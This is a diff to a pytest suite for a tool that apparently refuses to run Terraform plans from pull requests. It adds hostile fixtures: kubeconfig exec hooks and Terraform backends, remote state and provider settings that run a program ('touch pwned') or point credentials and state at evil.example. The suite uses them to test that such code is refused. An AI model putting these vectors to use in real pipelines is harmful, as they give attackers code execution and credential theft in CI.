@@ -2,15 +2,17 @@
 
 from __future__ import annotations
 
+import subprocess
 from typing import TYPE_CHECKING
 
 import pytest
 
 from tests.conftest import write_tree
-from tests.platforms import Platform, assert_refused
+from tests.platforms import Platform, assert_refused, invoke
 
 if TYPE_CHECKING:
     from collections.abc import Mapping
+    from pathlib import Path
 
 PULL = ("--event", "pull_request", "--ref", "refs/heads/change", "--target", "main")
 GITLAB = {
@@ -21,6 +23,34 @@ GITLAB = {
 }
 EXTERNAL = 'data "external" "x" {\n  program = ["sh", "-c", "touch pwned"]\n}\n'
 EVIL = 'terraform {\n  required_providers {\n    aws = { source = "evil/aws" }\n  }\n}\n'
+STATE = """data "terraform_remote_state" "x" {
+  backend = "kubernetes"
+  config = { secret_suffix = "x", config_path = "kubeconfig" }
+}
+"""
+BACKEND = """terraform {
+  backend "kubernetes" {
+    secret_suffix = "x"
+    config_path   = "kubeconfig"
+  }
+}
+"""
+KUBECONFIG = """apiVersion: v1
+kind: Config
+current-context: x
+clusters: [{name: x, cluster: {server: "https://127.0.0.1:1"}}]
+contexts: [{name: x, context: {cluster: x, user: x}}]
+users:
+- name: x
+  user:
+    exec:
+      apiVersion: client.authentication.k8s.io/v1
+      interactiveMode: Never
+      command: touch
+      args: [pwned]
+"""
+PROVIDER = 'provider "helm" {{\n  {}\n}}\n'
+LOGIN = 'kubernetes = { exec = { command = "aws", args = ["eks", "get-token", "--region", var.region] } }'
 BROUGHT: dict[str, tuple[dict[str, str], str]] = {
     "provider of another name": ({"infra/evil.tf": EVIL}, "infra/evil.tf:3: provider evil/aws"),
     "provider of another host": (
@@ -55,6 +85,44 @@ BROUGHT: dict[str, tuple[dict[str, str], str]] = {
         {"infra/evil.tf": 'module "x" {\n  source = "git::https://evil.example/x?ref=v1"\n}\n'},
         "module git::https://evil.example/x",
     ),
+    "state of others by a program": (
+        {"infra/evil.tf": STATE, "infra/kubeconfig": KUBECONFIG},
+        "infra/evil.tf:1: setting terraform_remote_state",
+    ),
+    "state of others at any address": (
+        {"infra/evil.tf": STATE.replace('"kubernetes"', '"s3"').replace("config_path", "endpoint")},
+        "setting terraform_remote_state",
+    ),
+    "state by a program": (
+        {"infra/override.tf": BACKEND, "infra/kubeconfig": KUBECONFIG},
+        "infra/override.tf:2: setting backend kubernetes",
+    ),
+    "state by a program in JSON": (
+        {
+            "infra/x_override.tf.json": '{"terraform": {"backend": {"kubernetes": {"config_path": "x"}}}}',
+        },
+        "infra/x_override.tf.json: setting backend kubernetes",
+    ),
+    "state with others": (
+        {"infra/evil.tf": 'terraform {\n  cloud {\n    hostname = "evil.example"\n  }\n}\n'},
+        "setting cloud",
+    ),
+    "login by a program": (
+        {"infra/evil.tf": PROVIDER.format('exec = { command = "aws", args = ["configure", "set"] }')},
+        "infra/evil.tf:2: setting provider helm: exec",
+    ),
+    "login by a program that is computed": (
+        {"infra/evil.tf": PROVIDER.format('dynamic "exec" {\n    for_each = [1]\n  }')},
+        "setting provider helm: exec",
+    ),
+    "login by a file": (
+        {"infra/evil.tf": PROVIDER.format('shared_config_files = ["evil"]')},
+        "setting provider helm: shared_config_files",
+    ),
+    "login elsewhere, in JSON": (
+        {"infra/evil.tf.json": '{"provider": {"aws": [{"endpoints": {"sts": "https://evil.example"}}]}}'},
+        "setting provider aws: endpoints",
+    ),
     "provider as a file": (
         {"infra/terraform.d/plugins/registry.terraform.io/hashicorp/aws/99.0.0/linux_amd64/x": "#!/bin/sh\n"},
         "x: a provider in the repository",
@@ -79,15 +147,18 @@ def bring(pull: Platform, files: Mapping[str, str]) -> None:
 def test_code_for_a_plan_to_run_is_refused(pull: Platform, case: str) -> None:
     files, words = BROUGHT[case]
     bring(pull, files)
-    said = ["nothing of this pull request is planned", words, "`pull_requests` in kubestack.yaml"]
-    assert_refused(pull, "run", *PULL, code=5, words=said)
+    done = invoke(pull.root, "run", *PULL)
+    assert done.code == 5, done.said
+    for said in ("nothing of this pull request is planned", words):
+        assert said in done.said
     assert not (pull.root / "infra/.terraform").exists()
     assert not list(pull.root.parent.rglob("pwned"))
 
 
 def test_code_for_a_plan_that_is_asked_for_is_refused(pull: Platform) -> None:
     bring(pull, {"infra/evil.tf": EXTERNAL})
-    assert_refused(pull, "plan", "infra", code=5, words=["data source external"], **GITLAB)
+    words = ["data source external", "`pull_requests` in kubestack.yaml"]
+    assert_refused(pull, "plan", "infra", code=5, words=words, **GITLAB)
     assert not (pull.root / "infra/.terraform").exists()
 
 
@@ -116,6 +187,32 @@ def test_code_of_the_target_may_be_planned(hosted: Platform) -> None:
     done = hosted.kubestack("run", *PULL)
     assert "nothing of this pull request is planned" not in done.said
     assert "infra (ops): failed" in done.out, "it is not to be had here, but it was tried"
+
+
+def test_settings_of_the_target_may_be_planned(hosted: Platform) -> None:
+    """What steers Terraform may stay, unless a file of the pull request could change its meaning."""
+    fixed = BACKEND + PROVIDER.format('exec = { command = "mine" }')
+    write_tree(
+        hosted.root, {"infra/more.tf": fixed, "infra/computed.tf": STATE.replace('"kubeconfig"', "local.x")}
+    )
+    hosted.commit()
+    hosted.push()
+    hosted.git("checkout", "--quiet", "-b", "change")
+    bring(hosted, {"infra/more.tf": fixed.replace(" = ", "  =  "), "infra/login.tf": PROVIDER.format(LOGIN)})
+    done = invoke(hosted.root, "run", *PULL)
+    assert done.code == 5, done.said
+    lines = [line.strip() for line in done.said.splitlines() if line.startswith("  infra/")]
+    assert lines == ["infra/computed.tf:1: setting terraform_remote_state"]
+
+
+def test_the_attacks_on_settings_would_work(tmp_path: Path) -> None:
+    """Terraform alone runs the program that a kubeconfig names, at `init` and in a plan."""
+    for name, text, command in (("init", BACKEND, "init"), ("plan", STATE, "plan")):
+        write_tree(tmp_path / name, {"main.tf": text, "kubeconfig": KUBECONFIG})
+        subprocess.run(
+            ["terraform", command, "-input=false"], cwd=tmp_path / name, capture_output=True, check=False
+        )
+        assert (tmp_path / name / "pwned").exists()
 
 
 def test_pull_request_cannot_allow_itself_anything(pull: Platform) -> None:
